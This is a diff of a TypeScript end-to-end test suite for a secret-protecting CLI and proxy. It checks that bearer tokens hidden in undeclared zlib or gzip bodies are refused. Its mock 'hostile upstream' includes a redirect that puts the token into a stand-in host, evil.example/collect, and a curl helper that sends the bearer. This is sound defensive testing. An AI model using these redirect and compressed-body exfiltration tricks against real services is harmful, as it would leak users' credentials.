@@ -8,6 +8,7 @@ import type {CallToolResult} from '@modelcontextprotocol/sdk/types.js'
 
 import assert from 'node:assert/strict'
 import {createServer, type Server} from 'node:http'
+import {deflateSync, gzipSync, inflateSync} from 'node:zlib'
 
 import {startMcp} from '../helpers/mcp.js'
 import {proxyCall, startProxy} from '../helpers/proxy.js'
@@ -19,20 +20,56 @@ const LOWER = 'hostcanary-leak9-5d1e0b7a'
 const MIXED = 'HostCanary-Leak9-C0FFEE42'
 const PROXY_MARKER = '[REDACTED_BY_AGENTSECRETS]'
 
-/** Redirects that quote the token where agentvault's errors name what the server sent. */
+/** Text that starts as a zlib stream would ("x^", 0x78 0x5e passes its header check) and is not one. */
+const LOOKS_ZLIB = 'x^2 + y^2 = z^2 has no integer solutions with x, y, z > 0? It has: 3, 4, 5.'
+
+/**
+ * Redirects that quote the token where agentvault's errors name what the server sent, and bodies
+ * that hold it compressed without saying so.
+ */
 function hostileUpstream(): Promise<{port: number; server: Server}> {
   const server = createServer((request, response) => {
     request.resume()
     const token = String(request.headers.authorization ?? '').replace(/^Bearer /, '')
     const path = (request.url ?? '').split('?')[0]
-    const location =
-      path === '/to-host'
-        ? `http://${token}.evil.example/collect`
-        : path === '/to-scheme'
-          ? `${token}:collect`
-          : `http://127.0.0.1:1/${path}`
-    response.writeHead(302, {location})
-    response.end()
+    const echo = Buffer.from(JSON.stringify({token}))
+    switch (path) {
+      case '/to-host':
+      case '/to-scheme': {
+        const location = path === '/to-host' ? `http://${token}.evil.example/collect` : `${token}:collect`
+        response.writeHead(302, {location})
+        response.end()
+        break
+      }
+
+      case '/zlib': {
+        // zlib (RFC 1950, what `deflate` names) that no Content-Encoding declares.
+        response.end(deflateSync(echo))
+        break
+      }
+
+      case '/gzip-zlib': {
+        // Declared gzip, holding a zlib stream that nothing declares.
+        response.writeHead(200, {'content-encoding': 'gzip'})
+        response.end(gzipSync(deflateSync(echo)))
+        break
+      }
+
+      case '/looks-zlib': {
+        response.end(LOOKS_ZLIB)
+        break
+      }
+
+      case '/looks-zlib-echo': {
+        response.end(`${LOOKS_ZLIB} ${token}`)
+        break
+      }
+
+      default: {
+        response.writeHead(404)
+        response.end()
+      }
+    }
   })
   return new Promise((resolve) => {
     server.listen(0, '127.0.0.1', () => {
@@ -40,6 +77,11 @@ function hostileUpstream(): Promise<{port: number; server: Server}> {
       resolve({port: typeof address === 'object' && address ? address.port : 0, server})
     })
   })
+}
+
+/** A `sh -c` script: curl sends $K as a bearer to `target`, then prints the status on a line of its own. */
+function fetchWithStatus(target: string): string {
+  return `curl -sS -w '\\n%{http_code}\\n' -H "Authorization: Bearer $K" "${target}"`
 }
 
 /** Whether `text` holds `value` in any case (as a host name shows it) or URL-encoded. */
@@ -212,6 +254,110 @@ describe('e2e: leak probe — values an upstream moves into agentvault’s own m
       } finally {
         await session.close()
       }
+    })
+  })
+
+  describe('a body compressed with zlib that no Content-Encoding declares (as undeclared gzip is)', () => {
+    it('call and use refuse it when it holds the value (exit 7); a text that only starts like zlib passes', async () => {
+      for (const route of ['/zlib', '/gzip-zlib']) {
+        const runs = [
+          await world.cli(['call', url(route), '--bearer', 'LOWER']),
+          await world.cli(['call', url(route), '--bearer', 'LOWER', '--json']),
+          await world.cli(['use', 'LOWER', 'http_request', '--param', `url=${url(route)}`, '--json']),
+        ]
+        for (const result of runs) {
+          assert.equal(result.code, 7, `${route}: ${result.stdout}${result.stderr}`)
+          assert.equal(
+            result.stdout.includes('SECRET_IN_COMPRESSED_BODY') || result.stderr.includes('Error: '),
+            true,
+          )
+        }
+
+        assert.equal(runs[0]!.stdout, '')
+        const {error} = JSON.parse(runs[1]!.stdout) as {error: {code: string}}
+        assert.equal(error.code, 'SECRET_IN_COMPRESSED_BODY')
+      }
+
+      const harmless = await world.cli(['call', url('/looks-zlib'), '--bearer', 'LOWER'])
+      assert.equal(harmless.code, 0, harmless.stderr)
+      assert.equal(harmless.stdout, LOOKS_ZLIB)
+      const echo = await world.cli(['call', url('/looks-zlib-echo'), '--bearer', 'LOWER'])
+      assert.equal(echo.code, 0, echo.stderr)
+      assert.equal(echo.stdout, `${LOOKS_ZLIB} ${MASK}`)
+    })
+
+    it('proxy refuses it (403 policy_denied) rather than relay it', async () => {
+      const proxy = await startProxy(env())
+      try {
+        for (const route of ['/zlib', '/gzip-zlib']) {
+          const reply = await proxyCall(proxy.port, {
+            headers: {
+              'X-AS-Inject-Bearer': 'LOWER',
+              'X-AS-Session-Token': proxy.token ?? '',
+              'X-AS-Target-URL': url(route),
+            },
+          })
+          assert.equal(reply.status, 403, `${route}: ${reply.text}`)
+          assert.throws(() => inflateSync(reply.body), 'no zlib stream relayed')
+        }
+      } finally {
+        await proxy.stop()
+      }
+    })
+
+    it('run --placeholders refuses it (502); a text that only starts like zlib is relayed', async () => {
+      for (const route of ['/zlib', '/gzip-zlib']) {
+        const result = await world.cli(
+          [
+            'run',
+            '--placeholders',
+            '--env',
+            'K=local://LOWER?profile=tls',
+            '--',
+            'sh',
+            '-c',
+            fetchWithStatus(url(route)),
+          ],
+          {env: env()},
+        )
+        assert.equal(result.code, 0, result.stderr)
+        const lines = result.stdout.trim().split('\n')
+        assert.equal(lines.at(-1), '502', `${route}: ${result.stdout}`)
+        assert.ok(!leaks(result.stdout, LOWER), result.stdout)
+      }
+
+      const harmless = await world.cli(
+        [
+          'run',
+          '--placeholders',
+          '--env',
+          'K=local://LOWER?profile=tls',
+          '--',
+          'sh',
+          '-c',
+          fetchWithStatus(url('/looks-zlib')),
+        ],
+        {env: env()},
+      )
+      assert.equal(harmless.stdout, `${LOOKS_ZLIB}\n200\n`, harmless.stderr)
+      // Not compressed after all: its echo is rewritten as in any body, not refused.
+      const echo = await world.cli(
+        [
+          'run',
+          '--placeholders',
+          '--env',
+          'K=local://LOWER?profile=tls',
+          '--',
+          'sh',
+          '-c',
+          fetchWithStatus(url('/looks-zlib-echo')),
+        ],
+        {env: env()},
+      )
+      assert.match(
+        echo.stdout,
+        new RegExp(`^${LOOKS_ZLIB.replaceAll(/[$()*+.?^]/g, '\\$&')} avph_K_[\\da-f]{32}\n200\n$`),
+      )
     })
   })
 })
